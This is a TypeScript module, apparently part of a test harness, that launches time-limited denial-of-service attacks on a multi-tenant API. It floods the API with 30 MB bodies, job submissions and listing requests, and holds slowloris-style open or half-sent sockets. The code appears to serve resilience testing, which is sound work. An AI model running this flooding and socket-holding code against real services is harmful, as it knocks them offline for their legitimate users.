import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { send, type RequestToSend } from "./send-request.ts";

/** An attack by requests of a tenant's clients, limited in number and time. */
export interface RequestAttack {
  readonly kind: "bodies" | "sockets" | "waits" | "submissions" | "listing";
  readonly url: string;
  /** The tokens of all accounts that the tenant's user has created. */
  readonly tokens: readonly string[];
  /** The number of concurrent requests, or of open sockets. */
  readonly parallel: number;
  readonly seconds: number;
  /** For `waits`: a command that does not end during the attack. */
  readonly commandId?: number;
}

/** The number of events by name, such as a status code. */
export type Counts = Record<string, number>;

const BODY_MB = 30;
/** A limit for the total number, whatever the duration. */
const MAX_SUBMISSIONS = 10_000;
/** New sockets in each pause of `SOCKET_PAUSE_MS`. Fewer with requests: the attack is that they are held. */
const SOCKET_BATCH = { sockets: 200, waits: 50 };
const SOCKET_PAUSE_MS = 50;

const PAGES = [
  "/commands?all_users=1&per_page=100&include_query_properties=true",
  "/commands?all_users=1&per_page=100&page=20",
  "/accounts/get_users?per_page=100",
  "/users?per_page=100",
  "/groups",
  "/roles",
  "/clusters",
  "/account",
];

export async function attack(task: RequestAttack): Promise<Counts> {
  switch (task.kind) {
    case "bodies":
      return repeatRequests(task, largeSubmission(), Infinity);
    case "submissions":
      return repeatRequests(task, submission, MAX_SUBMISSIONS);
    case "listing":
      return repeatRequests(task, (index) => ({ path: PAGES[index % PAGES.length] ?? "" }), Infinity);
    case "sockets":
      return holdSockets(task, beginning, SOCKET_BATCH.sockets);
    case "waits":
      return holdSockets(task, waitingRequest(task), SOCKET_BATCH.waits);
  }
}

type NthRequest = (index: number) => Omit<RequestToSend, "token">;

function largeSubmission(): NthRequest {
  const program = "#".repeat(BODY_MB * 1_000_000);
  const body = Buffer.from(JSON.stringify({ command_type: "SparkCommand", language: "python", program }));
  return () => ({ method: "POST", path: "/commands", body });
}

/** A program that ends at once, so that every free slot starts another process. */
function submission(index: number): Omit<RequestToSend, "token"> {
  const body = JSON.stringify({ command_type: "SparkCommand", language: "python", program: "true", name: `n${index}` });
  return { method: "POST", path: "/commands", body };
}

async function repeatRequests(
  { url, tokens, parallel, seconds }: RequestAttack,
  nth: NthRequest,
  most: number,
): Promise<Counts> {
  const end = performance.now() + seconds * 1000;
  const counts: Counts = {};
  let index = 0;
  const client = async (): Promise<void> => {
    while (performance.now() < end && index < most) {
      const number = index++;
      const token = tokens[number % tokens.length] ?? "";
      const { status } = await send(url, { ...nth(number), token });
      counts[status] = (counts[status] ?? 0) + 1;
      if (status !== "200") await delay(10);
    }
  };
  await Promise.all(Array.from({ length: parallel }, client));
  return counts;
}

/** Half of the sockets send nothing, half of them the beginning of a request. */
function beginning(index: number): string {
  return index % 2 === 0 ? "GET /api/v1.2/account HTTP/1.1\r\nHost: " : "";
}

/** Every socket waits for the end of the same command. */
function waitingRequest({ tokens: [token = ""], commandId }: RequestAttack): () => string {
  const path = `/api/v1.2/commands/${commandId}?wait_seconds=60`;
  const request = [`GET ${path} HTTP/1.1`, "Host: localhost", `X-AUTH-TOKEN: ${token}`, "", ""].join("\r\n");
  return () => request;
}

/** Sends the text on each socket, and opens another one for each that the server closes. */
async function holdSockets(
  { url, parallel, seconds }: RequestAttack,
  textOf: (index: number) => string,
  batch: number,
): Promise<Counts> {
  const { hostname, port } = new URL(url);
  const end = performance.now() + seconds * 1000;
  const held = new Set<Socket>();
  const counts: Counts = { opened: 0, answered: 0, refused: 0, dropped: 0 };
  const count = (word: string): void => void (counts[word] = (counts[word] ?? 0) + 1);
  const open = (index: number): void => {
    let isOpen = false;
    const socket = connect({ host: hostname, port: Number(port) }, () => {
      isOpen = true;
      count("opened");
      socket.write(textOf(index));
    });
    socket.once("data", () => count("answered")).resume();
    held.add(socket);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      held.delete(socket);
      if (performance.now() < end) count(isOpen ? "dropped" : "refused");
    });
  };
  for (let index = 0; performance.now() < end;) {
    const missing = Math.min(batch, parallel - held.size);
    for (let one = 0; one < missing; one += 1) open(index++);
    await delay(SOCKET_PAUSE_MS);
  }
  counts.held = held.size;
  for (const socket of held) socket.destroy();
  return counts;
}
